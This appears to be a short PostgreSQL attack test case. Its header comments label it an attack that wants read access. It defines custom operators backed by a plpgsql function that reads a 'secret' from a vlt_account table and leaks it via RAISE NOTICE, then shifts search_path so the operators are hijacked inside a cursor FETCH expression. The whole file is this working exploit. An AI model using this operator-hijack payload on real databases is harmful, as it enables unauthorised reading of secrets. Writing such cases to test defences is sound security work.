-- Fetches as far as an operator says that is not in the text.
-- wants: read
-- attack:
CREATE TYPE office.odd AS (a int);
CREATE FUNCTION office.told(office.odd, office.odd) RETURNS boolean LANGUAGE plpgsql AS $$
  DECLARE found text;
  BEGIN
    EXECUTE 'SELECT secret FROM public.vlt_' || 'account LIMIT 1' INTO found;
    RAISE NOTICE '%', found;
    RETURN true;
  END $$;
CREATE OPERATOR office.= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
CREATE OPERATOR office.<= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
CREATE OPERATOR office.~~ (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
SET search_path = office, pg_catalog, public;
DO $$ DECLARE x office.odd := ROW(1); c CURSOR FOR SELECT 1; n int; BEGIN OPEN c; FETCH RELATIVE (x LIKE x)::int FROM c INTO n; END $$;
